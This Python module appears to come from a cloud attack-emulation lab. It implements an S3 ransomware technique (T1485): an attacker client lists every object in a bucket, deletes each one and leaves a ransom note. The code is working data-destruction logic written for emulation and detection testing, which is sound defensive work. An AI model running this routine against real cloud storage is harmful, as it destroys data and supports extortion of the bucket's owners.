"""s3-ransomware-individual-deletion: delete a bucket's objects one by one (T1485)."""

from __future__ import annotations

from pathlib import Path

from lab.attacks.base import Prerequisites
from lab.attacks.s3_ransomware import S3RansomwareTechnique
from lab.emulator.endpoints import Endpoints


class S3RansomwareIndividualDeletion(S3RansomwareTechnique):
    folder = Path(__file__).parent
    PURPOSE = "target-ransomware-individual"

    def detonate(self, endpoints: Endpoints, prerequisites: Prerequisites) -> None:
        s3 = endpoints.client("s3", "attacker")
        bucket = prerequisites["bucket"]
        for item in s3.list_objects_v2(Bucket=bucket).get("Contents", []):
            s3.delete_object(Bucket=bucket, Key=item["Key"])
        self.leave_note(s3, bucket)


TECHNIQUE = S3RansomwareIndividualDeletion
